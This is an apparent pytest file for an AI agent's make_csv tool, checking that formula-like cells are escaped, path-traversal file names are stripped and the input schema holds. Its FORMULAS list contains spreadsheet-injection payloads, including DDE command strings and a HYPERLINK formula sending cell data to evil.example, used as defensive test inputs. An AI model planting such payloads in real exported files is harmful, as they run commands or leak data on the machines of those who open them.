"""``make_csv``: rows to a file, and no formula in it."""

import csv
import io
from typing import Any

import pytest

from agents.tools.arguments import validate
from agents.tools.base import ToolRetry
from agents.tools.make_csv import ROWS, make_csv
from agents.tools.registry import tools
from tests.tools.context import Context

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "＝1+1",
    "＠SUM(A1)",
    " \t＋1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "-2+3+cmd|' /C calc'!A0",
]


class Keeps(Context):
    """Keeps the files that a tool offers."""

    def __init__(self) -> None:
        super().__init__()
        self.files: dict[str, bytes] = {}

    def wait(self, work: Any) -> Any:
        try:
            work.send(None)
        except StopIteration as done:
            return done.value
        raise AssertionError("it waits for something")

    async def file(self, name: str, content: bytes | str) -> dict[str, Any]:
        self.files[name] = content.encode() if isinstance(content, str) else content
        return {"id": "file_1", "name": name}


def made(columns: list[str], rows: list[list[Any]], name: str = "table") -> list[list[str]]:
    context = Keeps()
    make_csv(context, name, columns, rows)  # type: ignore[arg-type]
    (content,) = context.files.values()
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_rows_become_a_file() -> None:
    context = Keeps()
    said = make_csv(
        context,  # type: ignore[arg-type]
        "offices",
        ["Room", "Desks", "Free"],
        [["2.14 “Aare”", 3, True], ['a,b\n"c"', -0.5, None]],
    )
    assert said == {"file": "offices.csv", "rows": 2, "columns": 3, "bytes": 63}
    content = context.files["offices.csv"]
    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == [
        ["Room", "Desks", "Free"],
        ["2.14 “Aare”", "3", "true"],
        ['a,b\n"c"', "-0.5", ""],
    ]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_like_a_formula(formula: str) -> None:
    (head,), (cell,) = made([formula], [[formula]])
    for one in (head, cell):
        assert one.startswith("'")


def test_what_is_no_formula_stays_as_it_is() -> None:
    rows = [["-12.5", " indented", "a=b", "x@example.org", "1-2", "", "’"]]
    assert made([*"abcdefg"], rows)[1:] == rows


@pytest.mark.parametrize(
    ("name", "columns", "rows", "hint"),
    [
        ("../.csv", ["a"], [], "name"),
        (" ", ["a"], [], "name"),
        ("x", [], [], "columns"),
        ("x", ["a"] * 201, [], "columns"),
        ("x", ["a", "b"], [["1", "2"], ["1"]], "Row 2 has 1 cells"),
        ("x", ["a"], [["1"]] * (ROWS + 1), "rows"),
    ],
)
def test_what_makes_no_table_is_mended_by_the_model(
    name: str, columns: list[str], rows: list[list[Any]], hint: str
) -> None:
    with pytest.raises(ToolRetry, match=hint):
        make_csv(Keeps(), name, columns, rows)  # type: ignore[arg-type]


def test_a_path_is_no_part_of_a_name() -> None:
    context = Keeps()
    make_csv(context, "../../etc\\passwd.CSV", ["a"], [])  # type: ignore[arg-type]
    assert list(context.files) == ["passwd.CSV"]


def test_its_schema_takes_numbers_words_and_nothing() -> None:
    tool = tools()["make_csv"]
    text = '{"name": "x", "columns": ["a"], "rows": [["w"], [1], [2.5], [true], [null]]}'
    assert len(validate(tool, text)["rows"]) == 5
    with pytest.raises(ToolRetry, match="rows/0/0"):
        validate(tool, '{"name": "x", "columns": ["a"], "rows": [[["nested"]]]}')
    assert (tool.writes, tool.reaches, tool.retry) == (False, False, "safe")
